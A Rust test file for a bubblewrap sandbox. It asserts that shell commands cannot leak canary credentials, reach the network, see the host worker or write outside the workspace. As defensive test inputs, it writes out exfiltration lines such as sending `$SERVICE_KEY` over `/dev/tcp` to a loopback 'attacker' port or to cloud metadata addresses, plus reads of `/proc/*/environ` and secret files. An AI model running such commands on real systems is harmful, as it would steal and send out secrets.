//! Tier 2 (bubblewrap): the CATALOGUE 2c rows that concern tool processes (T1-T15), each
//! asserting the specific denial or outcome, run under the canary rule. The shell rows every
//! tier shares (T7, T8, T11-T15) are the bodies in `shell_rows.rs`.
//!
//! `tier2_rows_hold_under_canaries` re-runs this test binary as a child process whose
//! environment holds canary credentials and a loopback "attacker" port; the child runs every
//! `row_*` test (ignored in a normal run) against a toolset whose shell runs in bubblewrap.
//! The parent fails if any row failed, if a canary appears in the child's output, or if the
//! attacker listener received a single connection.
//!
//! When the host cannot run tier 2 the test is skipped with a printed reason, unless
//! `REQUIRE_ISOLATION=1` is set (CI): then it fails, so a tier that silently does not engage
//! cannot pass.

use std::io::Read as _;
use std::path::{Path, PathBuf};

use hands_protocol::toolset::ToolOutput;
use hands_sandbox::{
    BwrapSandbox, DEFAULT_HIDDEN, HostProbe, Isolation, IsolationMode, SocketBind, Tier,
    Tier2Options,
};
use serde_json::json;

use crate::canary_rows::CanaryRows;
use crate::common::*;
use crate::shell_rows::{self, Shell};

const CHILD: &str = "HANDS_ISOLATION_CHILD";
const PORT: &str = "HANDS_ISOLATION_ATTACKER_PORT";
const KEY: &str = "canary-envkey-iso-61d0";
const AWS: &str = "canary-aws-iso-0b7c2e";
const SERVICE: &str = "canary-service-iso-9a4f";
const CANARIES: [&str; 3] = [KEY, AWS, SERVICE];
/// The rows the child must run; a filtered-out row would otherwise "pass" by not running.
const ROWS: usize = 18;
/// Size of the sandbox's `/tmp` in these tests.
const TMP_BYTES: u64 = 1024 * 1024;

fn required() -> bool {
    std::env::var("REQUIRE_ISOLATION").is_ok_and(|v| v == "1")
}

/// The tier-2 sandbox with `options`, or `None` after printing why it cannot run here. With
/// `REQUIRE_ISOLATION=1` a host that cannot run it fails the test instead.
fn tier2(options: Tier2Options) -> Option<BwrapSandbox> {
    let probe = HostProbe::run();
    match probe.select(IsolationMode::Tier(Tier::Bwrap), true) {
        Ok(_) => probe.bwrap_sandbox(options),
        Err(e) if required() => panic!("REQUIRE_ISOLATION=1 but tier 2 cannot engage: {e}"),
        Err(e) => {
            eprintln!("skipping the tier 2 rows: {e}");
            None
        }
    }
}

#[test]
fn tier2_rows_hold_under_canaries() {
    if tier2(Tier2Options::default()).is_none() {
        return;
    }
    CanaryRows {
        tier: "tier 2",
        filter: "isolation::row_",
        rows: ROWS,
        child_var: CHILD,
        port_var: PORT,
        environment_key: KEY,
        aws_secret: AWS,
        aws_key_id: "AKIACANARYISO000",
        service_key: SERVICE,
    }
    .run();
}

/// In the child: the fixture with the shell in bubblewrap (`None` when tier 2 cannot run).
fn fixture(
    options: Tier2Options,
    configure: impl FnOnce(&mut hands_tools::ToolsetConfig),
) -> Option<Fixture> {
    assert_eq!(
        std::env::var(CHILD).as_deref(),
        Ok("1"),
        "run through tier2_rows_hold_under_canaries"
    );
    let sandbox = tier2(options)?;
    Some(Fixture::with(|c| {
        c.isolation = Isolation::Bwrap(sandbox);
        configure(c);
    }))
}

fn options() -> Tier2Options {
    Tier2Options {
        tmp_bytes: TMP_BYTES,
        ..Tier2Options::default()
    }
}

/// The fixture's shell, every result checked against the canaries.
fn shell(fx: &Fixture) -> Shell<'_> {
    Shell {
        fx,
        canaries: &CANARIES,
    }
}

/// In the child: runs the shared shell row `row` (`shell_rows.rs`) in bubblewrap, in a fixture
/// `configure` adjusts. The shared rows pass at tier 0 too, so first the proof that bubblewrap
/// engaged: the shell is pid 1 of its own pid namespace, and `/tmp` is the sandbox's tmpfs.
async fn shell_row(
    configure: impl FnOnce(&mut hands_tools::ToolsetConfig),
    row: impl AsyncFnOnce(&Shell<'_>),
) {
    if let Some(fx) = fixture(options(), configure) {
        let sh = shell(&fx);
        assert_eq!(
            text(&sh.bash("echo $$; stat -f -c %T /tmp").await),
            "1\ntmpfs"
        );
        row(&sh).await;
    }
}

/// Runs `command` in the fixture's shell and checks the canary rule on the result.
async fn bash(fx: &Fixture, command: &str) -> ToolOutput {
    shell(fx).bash(command).await
}

async fn shown(fx: &Fixture, command: &str) -> String {
    shell(fx).shown(command).await
}

/// A directory outside `/tmp` (which is a fresh tmpfs inside the sandbox), removed on drop.
struct HostDir(PathBuf);

impl HostDir {
    fn new() -> HostDir {
        let dir = tempfile::Builder::new()
            .prefix("hands-iso-")
            .tempdir_in("/var/tmp")
            .unwrap()
            .keep();
        HostDir(std::fs::canonicalize(dir).unwrap())
    }
}

impl Drop for HostDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

// T1: the sandbox's environment is the allow-list, nothing of the worker's (bwrap got
// `--clearenv`, pitfall 6).
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t1_environment_is_the_allow_list() {
    let Some(fx) = fixture(options(), |_| {}) else {
        return;
    };
    let env = shown(&fx, "env | cut -d= -f1 | sort | tr '\\n' ' '").await;
    assert!(
        env.contains("PATH ") && env.contains("HANDS_SWEEP_TAG "),
        "{env}"
    );
    for name in ["ANTHROPIC_", "AWS_", "SERVICE_KEY", CHILD, PORT] {
        assert!(!env.contains(name), "{name} reached the sandbox: {env}");
    }
    // `cat` opens the file itself: a descriptor opened before `exec` reads the old, gone
    // memory map and yields nothing, which would pass vacuously.
    let environ = shown(&fx, "cat /proc/self/environ | tr '\\0' '\\n' | cut -d= -f1").await;
    assert!(
        !environ.contains("AWS_") && environ.contains("PATH"),
        "{environ}"
    );
    fx.tools.shutdown().await;
}

// T2: the worker is not visible at all: the sandbox has its own pid namespace and /proc, in
// which the shell is pid 1.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t2_worker_is_invisible() {
    let Some(fx) = fixture(options(), |_| {}) else {
        return;
    };
    let worker = std::process::id();
    assert!(
        worker > 64,
        "the worker's pid {worker} could exist in the sandbox too"
    );
    let out = shown(&fx, &format!("cat /proc/{worker}/environ")).await;
    assert!(out.contains("No such file or directory"), "{out}");
    let out = shown(&fx, &format!("ls -l /proc/{worker}/fd")).await;
    assert!(out.contains("No such file or directory"), "{out}");
    let out = shown(&fx, &format!("kill -0 {worker}")).await;
    assert!(out.contains("No such process"), "{out}");
    // The shell is pid 1; /proc lists nothing of the host.
    let out = shown(&fx, "echo $$; tr '\\0' ' ' < /proc/1/cmdline").await;
    assert!(out.starts_with("1\n") && out.contains("bash"), "{out}");
    let out = shown(
        &fx,
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c canary",
    )
    .await;
    assert_eq!(out, "0");
    fx.tools.shutdown().await;
}

// T3: the worker's secret files and credential directories are masked: neither a file nor a
// directory can be opened (EACCES), while an unmasked sibling stays readable (so the masks, not a
// missing path, are what the assertions see).
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t3_secret_files_are_masked() {
    let host = HostDir::new();
    let key = host.0.join("environment-key");
    let secrets = host.0.join("secrets");
    let visible = host.0.join("visible.txt");
    std::fs::write(&key, SECRET).unwrap();
    std::fs::create_dir(&secrets).unwrap();
    std::fs::write(secrets.join("aws"), SECRET).unwrap();
    std::fs::write(&visible, "visible").unwrap();
    let mut hide: Vec<PathBuf> = DEFAULT_HIDDEN.iter().map(PathBuf::from).collect();
    hide.extend([key.clone(), secrets.clone()]);
    let Some(fx) = fixture(Tier2Options { hide, ..options() }, |_| {}) else {
        return;
    };
    assert_eq!(
        shown(&fx, &format!("cat {}", visible.display())).await,
        "visible"
    );
    // The mask is the host's /dev/null bound over the file, on a mount that allows no device
    // nodes: opening it fails.
    let out = shown(&fx, &format!("cat {}", key.display())).await;
    assert!(
        out.contains("Permission denied"),
        "the key file is not masked: {out}"
    );
    let out = shown(&fx, &format!("ls {}", secrets.display())).await;
    assert!(out.contains("Permission denied"), "{out}");
    let out = shown(&fx, &format!("cat {}/aws", secrets.display())).await;
    assert!(out.contains("Permission denied"), "{out}");
    fx.tools.shutdown().await;
}

/// An address of this host other than loopback, if it has one.
fn host_address() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    s.local_addr()
        .ok()
        .map(|a| a.ip())
        .filter(|ip| !ip.is_loopback())
}

// T4: no network. Loopback inside is the sandbox's own (nothing listens: ECONNREFUSED, while
// the attacker listens on the host's), every other address is unreachable (ENETUNREACH), UDP
// and the metadata address too. bash's /dev/tcp is a builtin, so a missing binary cannot pass
// (pitfall 8); the parent asserts the listener saw no connection.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t4_no_network() {
    let Some(fx) = fixture(options(), |_| {}) else {
        return;
    };
    let port: u16 = std::env::var(PORT).unwrap().parse().unwrap();
    let out = shown(
        &fx,
        &format!("echo \"$SERVICE_KEY\" > /dev/tcp/127.0.0.1/{port}"),
    )
    .await;
    assert!(out.contains("Connection refused"), "{out}");
    if let Some(ip) = host_address() {
        let out = shown(&fx, &format!("echo leak > /dev/tcp/{ip}/{port}")).await;
        assert!(out.contains("Network is unreachable"), "{out}");
    }
    for target in ["169.254.169.254/80", "169.254.170.2/80", "10.0.0.1/443"] {
        let out = shown(&fx, &format!("echo leak > /dev/tcp/{target}")).await;
        assert!(out.contains("Network is unreachable"), "{target}: {out}");
    }
    let out = shown(&fx, "echo leak > /dev/udp/8.8.8.8/53").await;
    assert!(out.contains("Network is unreachable"), "{out}");
    fx.tools.shutdown().await;
}

// The egress seam: one unix socket of the host bound into the sandbox is reachable (the only
// way out), while TCP is not.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_egress_seam_binds_one_unix_socket() {
    let host = HostDir::new();
    let path = host.0.join("egress.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            use std::io::Write as _;
            let mut buf = [0u8; 1024];
            let _ = stream.read(&mut buf);
            let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nrelayed");
        }
    });
    let Some(fx) = fixture(
        Tier2Options {
            socket: Some(SocketBind {
                host: path.clone(),
                sandbox: "/tmp/egress.sock".into(),
            }),
            ..options()
        },
        |_| {},
    ) else {
        return;
    };
    let curl = Path::new("/usr/bin/curl");
    assert!(curl.exists(), "the seam test needs /usr/bin/curl");
    let out = shown(
        &fx,
        "/usr/bin/curl -sS --max-time 5 --unix-socket /tmp/egress.sock http://proxy/",
    )
    .await;
    assert_eq!(out, "relayed");
    fx.tools.shutdown().await;
}

// T5 at the default limits (`--limit-processes auto`: a pids cgroup here): both bombs are
// held and say so, the worker's file tools and another session's shell answer meanwhile, and
// nothing of either tree survives (`shell_rows::t5_fork_bombs_are_contained`).
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t5_fork_bomb_is_contained() {
    let Some((rlimits, note)) = shell_rows::default_limits() else {
        return;
    };
    let (Some(fx), Some(other)) = (
        fixture(options(), |c| c.rlimits = rlimits.clone()),
        fixture(options(), |c| c.rlimits = rlimits.clone()),
    ) else {
        return;
    };
    shell_rows::t5_fork_bombs_are_contained(&shell(&fx), 2, &note, Some(&shell(&other))).await;
    other.tools.shutdown().await;
}

// T5 at tier 2 for a worker that is not root and has no pids cgroup: the default limit is
// RLIMIT_NPROC, set in the tool process before bubblewrap is executed. Bubblewrap's user
// namespace does not lift it: the kernel exempts only the initial namespace's root (its
// `capable()` checks look there), and counts a task of the sandbox both in the sandbox's
// namespace and, above it, among every task of the worker's uid, against the limit bubblewrap
// had when it made the namespace (the same value). As root, this test runs itself again as a
// uid of its own (`shell_rows::rerun_under_rlimit_nproc`); the child holds both bombs, and the
// fork loop's sleeps, its shell and the worker's lasting threads never pass the limit together
// (a count of the sandbox's namespace alone would have let the sleeps come nearer).
#[test]
fn t5_fork_bomb_under_rlimit_nproc_at_tier2() {
    if hands_test_support::is_rerun() {
        let sandbox = tier2(options()).unwrap_or_else(|| {
            panic!("tier 2 engages as root here but not as this uid (see above)")
        });
        return shell_rows::t5_under_rlimit_nproc(8, Isolation::Bwrap(sandbox));
    }
    if tier2(Tier2Options::default()).is_none() {
        return;
    }
    shell_rows::rerun_under_rlimit_nproc("isolation::t5_fork_bomb_under_rlimit_nproc_at_tier2");
}

// T6: the sandbox's /tmp and /dev/shm are size-capped tmpfs (ENOSPC), and the file-size rlimit
// still bounds a file in the workspace.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t6_disk_quota() {
    let Some(fx) = fixture(options(), |c| {
        c.rlimits.file_size_bytes = Some(4 * 1024 * 1024);
    }) else {
        return;
    };
    // A command that fails while there is room gets no disk note.
    let out = shown(&fx, "ls /nonexistent").await;
    assert!(!out.contains("[resource limit"), "{out}");
    let fill = 2 * TMP_BYTES;
    for dir in ["/tmp", "/dev/shm"] {
        let out = shown(&fx, &format!("head -c {fill} /dev/zero > {dir}/fill")).await;
        assert!(out.contains("No space left on device"), "{dir}: {out}");
        // And in plain words, with the mount's size.
        let note = format!("[resource limit: no space left on the sandbox's {dir} (1 MiB in all);");
        assert!(out.contains(&note), "{dir}: {out}");
    }
    let out = shown(&fx, "head -c 8388608 /dev/zero > big; echo rc=$?").await;
    assert!(out.contains("File size limit exceeded"), "{out}");
    assert_eq!(
        std::fs::metadata(fx.path("big")).unwrap().len(),
        4 * 1024 * 1024
    );
    fx.tools.shutdown().await;
}

// Writes outside the workspace: the root is read-only (EROFS), the host's /tmp (where the
// fixture's `outside` lives) is not even there, and the workspace itself is writable and
// shared with the file tools.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_writes_outside_the_workspace_are_refused() {
    let Some(fx) = fixture(options(), |_| {}) else {
        return;
    };
    for path in [
        "/etc/hands-probe",
        "/usr/local/hands-probe",
        "/root/hands-probe",
    ] {
        let out = shown(&fx, &format!("touch {path}")).await;
        assert!(out.contains("Read-only file system"), "{path}: {out}");
    }
    let out = shown(&fx, &format!("cat {}/secret.txt", fx.outside.display())).await;
    assert!(out.contains("No such file or directory"), "{out}");
    assert_eq!(
        shown(&fx, "echo made-inside > made.txt && cat made.txt").await,
        "made-inside"
    );
    let read = fx.call("read", json!({"file_path": "made.txt"})).await;
    assert!(fx.shown(&read).contains("made-inside"));
    fx.tools.shutdown().await;
}

// T9: a survivor that left the session and cleared its environment (nothing ties it to the
// shell at tier 0 once the shell is gone) still dies with the namespace.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t9_namespace_teardown_leaves_no_survivor() {
    let Some(fx) = fixture(options(), |_| {}) else {
        return;
    };
    let marker = "7431.25";
    let out = bash(
        &fx,
        &format!("(setsid env -i /bin/sleep {marker} > /dev/null 2>&1 &); echo started"),
    )
    .await;
    assert_eq!(fx.shown(&out), "started");
    fx.tools.shutdown().await;
    let alive = alive_with_arg(marker);
    assert!(alive.is_empty(), "survivors: {alive:?}");
}

// T8 in tier 2: stdin is /dev/null; `tail -f` and `sleep infinity` end at the timeout with
// their partial output, and what they started in the background is gone with them.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t8_never_exits() {
    shell_row(|_| {}, async |sh| shell_rows::t8_never_exits(sh, 2).await).await;
}

// T14 in tier 2: exit 255 and deaths by SIGSEGV and SIGKILL are errors that say which.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t14_exit_status_and_signals() {
    shell_row(
        |_| {},
        async |sh| {
            // The shell is pid 1 of the sandbox's namespace: a signal it has no handler for is not
            // delivered, so it cannot be killed from inside.
            assert_eq!(
                sh.shown("kill -KILL $$; kill -SEGV $$; echo alive").await,
                "alive"
            );
            shell_rows::t14_exit_status_and_signals(sh).await;
        },
    )
    .await;
}

// T10 in tier 2: the worker cannot be signalled: its pid names nothing in the sandbox's pid
// namespace (ESRCH).
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t10_the_worker_cannot_be_signalled() {
    let Some(fx) = fixture(options(), |_| {}) else {
        return;
    };
    let worker = std::process::id();
    let out = bash(
        &fx,
        &format!("kill -STOP {worker}; echo rc=$?; kill -0 {worker}; echo rc=$?"),
    )
    .await;
    let shown = fx.shown(&out);
    assert!(
        shown.contains("No such process") && shown.matches("rc=1").count() == 2,
        "{shown}"
    );
    fx.tools.shutdown().await;
}

// Custom tools (one-shot processes) run in the same sandbox: own pid namespace, no network,
// and the exit status comes through.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_oneshot_runs_in_the_sandbox() {
    use tokio::io::AsyncReadExt as _;
    assert_eq!(std::env::var(CHILD).as_deref(), Ok("1"));
    let Some(sandbox) = tier2(options()) else {
        return;
    };
    let ws = tempfile::tempdir().unwrap();
    let spec = hands_sandbox::OneShotSpec {
        program: "/bin/bash".into(),
        args: vec![
            "-c".into(),
            "echo pid=$$; echo x > /dev/tcp/10.0.0.1/80; env | grep -c -e AWS_ -e SERVICE_KEY; exit 3"
                .into(),
        ],
        cwd: std::fs::canonicalize(ws.path()).unwrap(),
        env: hands_sandbox::EnvPolicy::default().build(std::env::vars_os()),
        rlimits: hands_sandbox::Rlimits::default(),
        isolation: Isolation::Bwrap(sandbox),
        binds: hands_sandbox::Binds::default(),
    };
    let mut p = hands_sandbox::spawn_oneshot(&spec).await.unwrap();
    drop(p.stdin);
    let (mut out, mut err) = (String::new(), String::new());
    p.stdout.read_to_string(&mut out).await.unwrap();
    p.stderr.read_to_string(&mut err).await.unwrap();
    let status = p.child.wait().await.unwrap();
    assert_eq!(status.code(), Some(3), "{out}{err}");
    assert_eq!(out, "pid=1\n0\n");
    assert!(err.contains("Network is unreachable"), "{err}");
}

// T7 in tier 2: floods (one huge line, binary, never ending, stdout and stderr at once) are
// bounded with the reference marker, and the worker's memory stays bounded.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t7_output_floods_are_bounded() {
    shell_row(
        |_| {},
        shell_rows::t7_output_floods_are_bounded_in_bounded_memory,
    )
    .await;
}

// T11 in tier 2: a burner on every core is killed by the wall-clock timeout (with the pid
// namespace) while the tools keep answering; RLIMIT_CPU reaches through bubblewrap and ends a
// burner by itself; a SIGKILL of the shell from outside is not taken for the CPU limit, also
// after a child of the shell burned the limit's worth of CPU.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t11_cpu_burner_is_stopped() {
    shell_row(
        |_| {},
        async |sh| {
            shell_rows::t11_cpu_burner_is_timed_out(sh, 2).await;
        },
    )
    .await;
    shell_row(
        |c| c.rlimits.cpu_seconds = Some(shell_rows::CPU_SECONDS),
        async |sh| shell_rows::t11_cpu_limit_ends_a_burner(sh, 2).await,
    )
    .await;
    shell_row(
        |c| c.rlimits.cpu_seconds = Some(shell_rows::CPU_SECONDS),
        async |sh| shell_rows::t11_an_outside_kill_is_not_the_cpu_limit(sh, 2).await,
    )
    .await;
    shell_row(
        |c| c.rlimits.cpu_seconds = Some(shell_rows::CPU_SECONDS),
        async |sh| {
            shell_rows::t11_a_child_burner_then_an_outside_kill_is_not_the_cpu_limit(sh, 2).await
        },
    )
    .await;
}

// T12 in tier 2: the address-space limit reaches through bubblewrap; a hog fails in the tool,
// the session's shell and the worker go on.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t12_memory_hog_fails_in_the_tool() {
    shell_row(
        |c| c.rlimits.address_space_bytes = Some(shell_rows::HOG_LIMIT),
        shell_rows::t12_memory_hog_fails_in_the_tool,
    )
    .await;
}

// T13 in tier 2: binary and invalid UTF-8 output never panics; lossy and truncation markers.
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t13_binary_output_never_panics() {
    shell_row(|_| {}, shell_rows::t13_binary_output_never_panics).await;
}

// T15 in tier 2: planted helpers, PATH=. and LD_PRELOAD never reach grep or a new shell
// (bubblewrap is found by the probe in fixed directories, the shell is an absolute path).
#[tokio::test]
#[ignore = "run by tier2_rows_hold_under_canaries"]
async fn row_t15_helper_hijacking() {
    shell_row(
        shell_rows::workspace_first_on_path,
        shell_rows::t15_helper_hijacking,
    )
    .await;
}
